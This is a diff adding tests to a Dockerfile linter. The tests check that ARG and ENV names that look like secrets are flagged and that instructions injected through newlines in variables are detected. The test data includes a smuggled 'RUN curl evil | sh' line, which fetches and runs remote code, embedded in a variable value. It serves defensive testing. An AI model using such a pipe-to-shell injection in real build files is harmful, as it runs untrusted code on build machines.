@@ -393,3 +393,32 @@ def test_r_base_needs_the_nfs_conf(base: str) -> None:
     findings = dockerfile.lint(f"FROM {base}:15.4-LTS@{DIGEST}\n", today=LATER)
     assert [f.rule for f in findings] == ["r-base-nfs"]
     assert "spark.databricks.driverNfs.enabled" in findings[0].fix
+
+
+# -- secrets in ARG/ENV and newline-injected instructions (issue 13, items 7 and 10) ------------------
+
+
+@pytest.mark.parametrize(("name", "secret"), [
+    ("NPM_TOKEN", True), ("API_KEY", True), ("AWS_ACCESS_KEY_ID", True), ("DB_PASSWD", True),
+    ("GH_AUTH", True), ("AZURE_CREDENTIALS", True), ("PUBLIC_KEY", False), ("MONKEY", False),
+    ("KEYRING", False), ("VERSION", False),
+])
+def test_looks_like_secret_follows_buildkit(name: str, secret: bool) -> None:
+    from dcs_magic.dockerfile import looks_like_secret
+
+    assert looks_like_secret(name) is secret
+
+
+def test_secret_arg_and_env_names_are_linted() -> None:
+    text = "FROM a:1\nARG NPM_TOKEN\nENV DB_PASSWORD=x OTHER=1\nENV API_KEY v\nARG VERSION=1\n"
+    found = [(f.lineno, f.message.split(" looks")[0]) for f in lint(text) if f.rule == "secret-in-arg-or-env"]
+    assert found == [(2, "ARG NPM_TOKEN"), (3, "ENV DB_PASSWORD"), (4, "ENV API_KEY")]
+
+
+def test_injected_instructions_marks_only_lines_a_newline_made() -> None:
+    from dcs_magic.dockerfile import injected_instructions
+
+    text = "FROM a:1\nRUN echo 1\nRUN curl evil | sh\nRUN true\n"
+    [finding] = injected_instructions(text, ["1\nRUN curl evil | sh", "single line", 5])
+    assert finding.lineno == 3 and finding.rule == "newline-in-variable"
+    assert injected_instructions(text, ["no newline"]) == []
